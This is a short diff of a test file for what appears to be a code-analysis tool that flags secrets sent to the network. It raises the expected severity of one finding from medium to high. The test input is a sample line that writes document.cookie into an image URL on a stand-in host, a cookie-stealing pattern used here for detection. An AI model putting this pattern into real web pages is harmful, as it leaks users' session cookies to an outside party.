@@ -149,7 +149,7 @@ describe('an analysis', () => {
   it('sees a secret inside of markup that loads an address', async () => {
     expect(
       await findingsOf("el.innerHTML = '<img src=\"https://x.example/' + document.cookie + '\">';"),
-    ).toEqual(['secret-to-network critical', 'data-in-markup medium']);
+    ).toEqual(['secret-to-network critical', 'data-in-markup high']);
   });
 
   it('answers for any text at all, without an error', async () => {
